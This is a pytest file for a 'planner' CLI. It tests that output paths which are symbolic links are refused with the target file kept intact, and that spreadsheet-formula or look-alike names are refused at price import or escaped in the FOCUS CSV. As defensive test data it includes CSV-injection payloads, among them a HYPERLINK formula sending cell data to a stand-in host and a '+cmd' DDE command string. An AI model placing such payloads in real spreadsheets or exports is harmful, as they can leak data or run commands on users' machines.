"""Files land only where asked (issue 30), with the installed ``planner``: an output option
naming a symbolic link is refused before the work and the file the link points to is left byte
for byte as it was; /dev/stdout still works; a price sheet whose names a spreadsheet would run
as formulas, or that uses look-alike characters, is refused at import with its row and column;
and the FOCUS CSV writes text a spreadsheet would run as text.

Nothing here relies on running as root: the files are the test's own.
"""

from __future__ import annotations

import csv
import io
import os
import subprocess
from contextlib import nullcontext
from pathlib import Path

import pytest

from planner.report.focus import csv_text, focus_frame
from planner.store import open_store
from planner.usecases.report import ReportRequest, build_report
from tests.conftest import ROOT
from tests.e2e.test_cli import PLANNER

SERVEGEN = ROOT / "data" / "samples" / "servegen_rates_10min.csv"
BENCH_RESULT = (
    ROOT / "tests" / "fixtures" / "bench-results" / "vllm-bench-serve_catalog-metadata.json"
)
SIMULATE = [
    "simulate",
    "--dataset",
    "demo-azure-conv",
    "--gpu",
    "H100-SXM",
    "--model",
    "llama-3.1-8b",
]
FORECAST = ["forecast", "--series", str(SERVEGEN), "--model", "m-small", "--no-backtest"]
RECOMMEND = [
    "recommend",
    "--dataset",
    "demo-azure-conv",
    "--model",
    "llama-3.1-8b",
    "--slo-ttft-p99",
    "2s",
]
VICTIM_BYTES = b"precious: not to be replaced\n\x00\xff"
PRICE_HEADER = "provider,region,instance_type,gpu_model,gpu_count,purchase_option,usd_per_hour\n"


@pytest.fixture
def home(demo_store_copy: Path) -> Path:
    return demo_store_copy


def run(home: Path, *args: str, timeout: float = 300) -> subprocess.CompletedProcess[str]:
    environment = {
        k: v for k, v in os.environ.items() if k not in ("PLANNER_DATABASE_URL", "PLANNER_DEBUG")
    }
    environment.update(PLANNER_HOME=str(home), COLUMNS="200")
    return subprocess.run(
        [PLANNER, *args], capture_output=True, text=True, env=environment, timeout=timeout
    )


# Each output option a user can point at a file, as a cheap invocation: {link} is the link.
LINKED = {
    "report --out": ["report", "--recommendation", "1", "--out", "{link}.csv"],
    "report --out xlsx": ["report", "--recommendation", "1", "--out", "{link}.xlsx"],
    "simulate --out-requests": [*SIMULATE, "--load-scale", "0.05", "--out-requests", "{link}.csv"],
    "simulate --out-summary": [*SIMULATE, "--load-scale", "0.05", "--out-summary", "{link}.json"],
    "simulate --out-timeline": [*SIMULATE, "--load-scale", "0.05", "--out-timeline", "{link}.csv"],
    "forecast --plot": [*FORECAST, "--plot", "{link}.html"],
    "forecast --demand-out": [*FORECAST, "--demand-out", "{link}.csv"],
    "recommend --out": [*RECOMMEND, "--load-scale", "0.05", "--out", "{link}.json"],
    "recommend --plot": [*RECOMMEND, "--load-scale", "0.05", "--plot", "{link}.html"],
    "calibrate --export": [
        "calibrate",
        str(ROOT / "data" / "reference" / "published_latency.csv"),
        "--name",
        "linked",
        "--gpu",
        "H100-SXM",
        "--export",
        "{link}.json",
    ],
    "bench import --out-csv": [
        "bench",
        "import",
        str(BENCH_RESULT),
        "--no-store",
        "--out-csv",
        "{link}.csv",
    ],
    "bench engine --out": [
        "bench",
        "engine",
        "--prompts",
        "8",
        "--batches",
        "1",
        "--warmup",
        "0",
        "--repeats",
        "1",
        "--output-tokens",
        "4",
        "--out",
        "{link}.json",
    ],
    "bench run --out": [
        "bench",
        "run",
        "--url",
        "http://127.0.0.1:9",
        "--requests",
        "1",
        "--no-store",
        "--out",
        "{link}.json",
    ],
}


# a link that points nowhere yet: refused too (writing would create the file it names)
CASES = [(case, False) for case in LINKED] + [
    (case, True) for case in ("report --out", "simulate --out-requests", "forecast --plot")
]


@pytest.mark.parametrize(
    ("case", "dangling"), CASES, ids=[f"{c}{' dangling' if d else ''}" for c, d in CASES]
)
def test_an_output_that_is_a_link_is_refused_and_its_target_kept(
    home: Path, tmp_path: Path, case: str, dangling: bool
) -> None:
    folder = tmp_path / "out"
    folder.mkdir()
    victim = tmp_path / "victim.txt"  # outside the output folder: a file the user cares about
    if not dangling:
        victim.write_bytes(VICTIM_BYTES)
    args = [a.replace("{link}", str(folder / "link")) for a in LINKED[case]]
    link = Path(next(a for a in args if a.startswith(str(folder / "link"))))
    link.symlink_to(victim)
    result = run(home, *args)
    option = case.split()[-2] if case.endswith("xlsx") else case.split()[-1]
    assert result.returncode == 2, (result.stdout, result.stderr)
    assert f"{option} {link}: is a symbolic link" in result.stderr
    assert "planner does not write through links" in result.stderr
    assert "Traceback" not in result.stderr
    assert link.is_symlink()
    if dangling:
        assert not victim.exists()
    else:
        assert victim.read_bytes() == VICTIM_BYTES
    assert [p.name for p in folder.iterdir()] == [link.name]  # no temporary file left behind


def test_report_to_dev_stdout_still_works(home: Path) -> None:
    result = run(home, "report", "--recommendation", "1", "--out", "/dev/stdout", "--format", "csv")
    assert result.returncode == 0, result.stderr
    header = result.stdout.splitlines()[0]
    assert header.startswith("BilledCost,BillingAccountId,")
    assert Path("/dev/stdout").is_symlink()


def test_simulate_summary_to_dev_stdout_still_works(home: Path) -> None:
    result = run(home, *SIMULATE, "--load-scale", "0.05", "--out-summary", "/dev/stdout")
    assert result.returncode == 0, result.stderr
    assert result.stdout.startswith("{") and '"requests"' in result.stdout


def test_a_real_file_through_a_linked_folder_is_written(home: Path, tmp_path: Path) -> None:
    # only the destination itself may not be a link: a folder reached through one is fine
    real = tmp_path / "real"
    real.mkdir()
    (tmp_path / "via").symlink_to(real)
    out = tmp_path / "via" / "plan.csv"
    result = run(home, "report", "--recommendation", "1", "--out", str(out))
    assert result.returncode == 0, result.stderr
    assert (real / "plan.csv").is_file() and not (real / "plan.csv").is_symlink()


@pytest.mark.parametrize(
    ("name", "region", "instance", "column"),
    [
        ("formula", "us-east-1", '"=HYPERLINK(""http://x""&A1;""x"")"', "instance_type"),
        ("at", "us-east-1", "@SUM(1)", "instance_type"),
        ("plus", "us-east-1", "+cmd|' /C calc'!A0", "instance_type"),
        ("minus", "us-east-1", "-2+3", "instance_type"),
        ("lookalike", "us\u2010east\u20101", "p5.48xlarge", "region"),
    ],
)
def test_prices_import_refuses_names_no_cloud_uses(
    home: Path, tmp_path: Path, name: str, region: str, instance: str, column: str
) -> None:
    sheet = tmp_path / f"price-{name}.csv"
    row = f"aws,{region},{instance},H100-SXM,8,on-demand,50\n"
    sheet.write_text(PRICE_HEADER + row, encoding="utf-8")
    result = run(home, "prices", "import", str(sheet))
    assert result.returncode != 0 and "Traceback" not in result.stderr
    message = " ".join(result.stderr.split())
    assert str(sheet) in message or sheet.name in message
    assert f"row 1, line 2, column '{column}'" in message
    assert "expected a name as clouds write them" in message
    if name == "lookalike":
        assert "U+2010 HYPHEN" in message
    listed = run(home, "prices", "list", "--json")
    assert "HYPERLINK" not in listed.stdout and "\u2010" not in listed.stdout


def test_the_focus_csv_writes_formula_text_as_text(demo_store_file: Path) -> None:
    # a name that reached the store another way (an older import): written as text, numbers
    # (negative ones included) as numbers
    with open_store(f"sqlite:///{demo_store_file}") as store, store.session() as session:
        report = build_report(ReportRequest(1), lambda: nullcontext(session))
    frame = focus_frame(report)
    text_column, money = "ResourceType", "BilledCost"
    frame[text_column] = '=HYPERLINK("http://x";"x")'
    frame[money] = -2.5
    rows = list(csv.DictReader(io.StringIO(csv_text(frame))))
    assert rows and all(r[text_column] == '\'=HYPERLINK("http://x";"x")' for r in rows)
    assert all(r[money] == "-2.5" for r in rows)


def test_bench_run_refuses_a_linked_requests_file_before_the_run(
    home: Path, tmp_path: Path
) -> None:
    # --out run.json writes run.jsonl beside it: a link there is refused before any request
    victim = tmp_path / "victim.txt"
    victim.write_bytes(VICTIM_BYTES)
    (tmp_path / "run.jsonl").symlink_to(victim)
    out = tmp_path / "run.json"
    args = ["bench", "run", "--url", "http://127.0.0.1:9", "--requests", "1", "--no-store"]
    result = run(home, *args, "--out", str(out))
    assert result.returncode == 2, (result.stdout, result.stderr)
    assert f"--out {tmp_path / 'run.jsonl'}: is a symbolic link" in result.stderr
    assert "first error" not in result.stderr  # refused before the run
    assert victim.read_bytes() == VICTIM_BYTES and not out.exists()


def test_report_csv_refuses_a_linked_metadata_file_and_writes_neither(
    home: Path, tmp_path: Path
) -> None:
    # the FOCUS CSV's metadata lands beside it (plan.focus-metadata.json): a link there is
    # refused before either file is written
    victim = tmp_path / "victim.txt"
    victim.write_bytes(VICTIM_BYTES)
    meta = tmp_path / "plan.focus-metadata.json"
    meta.symlink_to(victim)
    out = tmp_path / "plan.csv"
    result = run(home, "report", "--recommendation", "1", "--out", str(out))
    assert result.returncode == 2, (result.stdout, result.stderr)
    assert f"--out {meta}: is a symbolic link" in result.stderr
    assert victim.read_bytes() == VICTIM_BYTES and meta.is_symlink() and not out.exists()
    assert sorted(p.name for p in tmp_path.iterdir()) == sorted(["home", meta.name, victim.name])
